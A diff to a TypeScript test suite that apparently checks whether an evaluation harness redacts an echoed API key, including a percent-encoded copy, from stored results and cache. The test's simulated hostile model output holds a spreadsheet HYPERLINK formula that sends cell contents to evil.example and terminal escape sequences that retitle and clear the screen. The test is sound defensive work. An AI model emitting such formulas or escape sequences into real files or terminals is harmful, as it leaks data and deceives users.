@@ -261,11 +261,13 @@ describe('model answers have a total deadline and a size cap', () => {
 
 describe('what a model or server says is data', () => {
   const KEY = 'sk-test-ECHOED-0123456789abcdef';
+  /** The key as a percent-encoder that escapes "-" writes it, in lowercase hex. */
+  const ENCODED = KEY.replaceAll('-', '%2d');
   const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';
   /** A model that answers with the key, terminal escapes and a spreadsheet formula. */
   const hostile = (req: { prompt: string }, sample: number) =>
     req.prompt.endsWith('Thought:') || req.prompt.endsWith('Answer:')
-      ? ` The key is ${KEY}. \x1b]0;pwned\x07\x1b[2J\rALL GOOD So the answer is ${FORMULA}.\nAnswer: ${FORMULA}\nQuestion: next`
+      ? ` The key is ${KEY}, or ${ENCODED}. \x1b]0;pwned\x07\x1b[2J\rALL GOOD So the answer is ${FORMULA}.\nAnswer: ${FORMULA}\nQuestion: next`
       : scriptedRespond(req as never, sample);
   let echo: OpenAIServer;
   const results = () => path.join(tmp, 'echo-results');
@@ -285,9 +287,9 @@ describe('what a model or server says is data', () => {
     expect(r.code).toBe(0);
     const files = [...filesUnder(results()), ...filesUnder(cache())];
     expect(files.some((f) => f.endsWith('completions.sqlite'))).toBe(true);
-    for (const f of files) expect(fs.readFileSync(f).includes(KEY), f).toBe(false);
+    for (const f of files) for (const k of [KEY, ENCODED]) expect(fs.readFileSync(f).includes(k), `${f}: ${k}`).toBe(false);
     const [rec] = readLines(path.join(results(), runDirs(results())[0], 'episodes.jsonl'));
-    expect(rec.traj).toContain('The key is [redacted].');
+    expect(rec.traj).toContain('The key is [redacted], or [redacted].');
     // again from the cache, retrying errors: still no key anywhere
     const id = runDirs(results())[0];
     const again = await runCli(['run', '--resume', id, '--retry-errors', '--base-url', echo.baseURL, '--results-dir', results()], {
